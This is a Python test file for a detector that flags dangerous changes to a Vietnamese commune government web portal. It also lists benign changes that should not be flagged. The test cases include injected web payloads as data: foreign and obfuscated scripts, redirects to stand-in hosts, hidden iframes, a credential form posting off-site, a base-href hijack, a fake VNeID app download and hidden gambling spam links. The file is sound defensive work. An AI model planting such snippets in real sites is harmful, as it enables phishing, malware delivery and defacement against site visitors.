"""Which changes of a page are dangerous, and which are not?"""

from __future__ import annotations

import pytest

from sensors.portal.baseline import face_of
from sensors.portal.compare import compare
from sensors.portal.walk import parse_page

URL = "https://xa.gov.vn/"
HIDES = "document.getElementById('z9').style.display='none'"
BEFORE = (
    "<html lang=vi><head><title>Trang thông tin xã</title><script src=/a.js></script></head><body>"
    "<p>Giới thiệu</p>"
    "<form action=/tim><input></form><img src=/1.jpg><a href=https://chinhphu.vn/>Chính phủ</a></body></html>"
)


def _linked(host: str, *texts: str) -> str:
    return "".join(f"<a href=https://{host}/>{text}</a>" for text in texts)


def _dangers(piece: str, where: str = "</body>") -> set[str]:
    face = face_of(parse_page(BEFORE.encode(), URL), path="/", view="desktop")
    after = BEFORE.replace(where, piece + where, 1)
    return set(compare(face, parse_page(after.encode(), URL)).dangerous)


@pytest.mark.parametrize(
    ("piece", "danger"),
    [
        ("<script src=//la.top/a.js></script>", "script.foreign"),
        ("<script>eval(atob('ZG9jdW1lbnQud3JpdGUoMSk7Ly8='))</script>", "script.obfuscated"),
        ("<script>window.location='https://la.top/x'</script>", "script.redirects"),
        ("<img src=x onerror=\"location='//la.top/'\">", "handler.script"),
        ("<iframe src=https://la.top/ width=0></iframe>", "frame.hidden"),
        ("<form action=https://la.top/><input type=password></form>", "form.foreign"),
        ("<meta http-equiv=refresh content='0;url=https://la.top/'>", "refresh.foreign"),
        ("<img src=https://la.top/x.jpg>", "image.foreign"),
        ("<p>Đã bị hack bởi Bóng Đêm</p>", "text.defaced"),
        ("<div style='left:-999px;position:absolute'><a href=https://la.top/>x</a></div>", "links.hidden"),
        ("<p>Link vào nhà cái uy tín <a href=https://kubet.vip/>kubet</a></p>", "spam.links"),
        ("<a href=https://tai-app.top/>Tải</a>", "links.strange"),
        ("<a href=https://la.com/vneid.apk>VNeID</a>", "links.download"),
        (f"<div id=z9><a href=https://la.com/>x</a></div><script>{HIDES}</script>", "links.hidden"),
        (f"<div style='display:none'>{_linked('la.com', 'vào', 'chơi', 'nạp', 'rút')}</div>", "links.hidden"),
        (f"<div style='display:none'>{_linked('la.com', 'OLX', 'Bandar Togel', 'Slot')}</div>", "spam.links"),
        ("<script>var a='ht'+'tps://la.top/';window['loca'+'tion']=a</script>", "script.redirects"),
        ("<script>new WebSocket('wss://la.com/x')</script>", "script.foreign"),
        ("<iframe srcdoc=\"<script src='https://la.com/a.js'></script>\"></iframe>", "frame.foreign"),
        ("<form action=/x><button formaction=https://la.com/>Gửi</button></form>", "form.foreign"),
        ("<base href=https://la.com/>", "base.foreign"),
        ("<style>body>*{display:none}</style>", "page.blanked"),
        ("<div style='position:fixed;inset:0;z-index:99999'></div>", "page.covered"),
        ("<p>Nộp tiền vào STK 19031234567890 ngân hàng A</p>", "text.account"),
        ("<p>Cá cược bóng đá trực tuyến</p>", "spam.words"),
        ("<p>t.à.i x.ỉ.u n.ổ h.ũ</p>", "spam.text"),
    ],
)
def test_an_injection_is_dangerous(piece: str, danger: str) -> None:
    assert danger in _dangers(piece)


@pytest.mark.parametrize(
    "piece",
    [
        "<p>Thông báo mới về lịch tiếp công dân</p>",
        "<script src=https://www.googletagmanager.com/gtag/js?id=1></script>",
        "<iframe src=https://www.youtube.com/embed/abc></iframe>",
        "<script>var n = 5; location.href = '/tin-tuc';</script>",
        "<a href=https://bao-dia-phuong.com/tin>Báo địa phương</a>",
        "<img src=/2.jpg>",
        "<form action=/dang-nhap><input type=password></form>",
        "<p>Công an cảnh báo trang web bị tấn công, người dân cần cảnh giác</p>",
        "<a href=/tai/app.apk>Ứng dụng của xã</a>",
        f'<button onclick="{HIDES}">Đóng</button><div id=z9><a href=https://bao-dia-phuong.com/>Báo</a></div>',
        "<script>var x={'@context':'http://schema.org'};location.hash='#a'</script>",
        "<p>Công an bắt nhóm cá cược bóng đá trực tuyến</p>",
        "<p>Sở Y tế công bố giá: Viagra 97.000, Cialis 240.000</p>",
        f"<ul style='display:none'>{_linked('bao-dia-phuong.com', 'Tin', 'Ảnh')}</ul>",
        f"<ul style='display:none'>{_linked('hanoi.gov.vn', 'Tin', 'Ảnh', 'Luật', 'Phim', 'Báo')}</ul>",
    ],
)
def test_an_honest_change_is_not(piece: str) -> None:
    assert _dangers(piece) == set[str]()
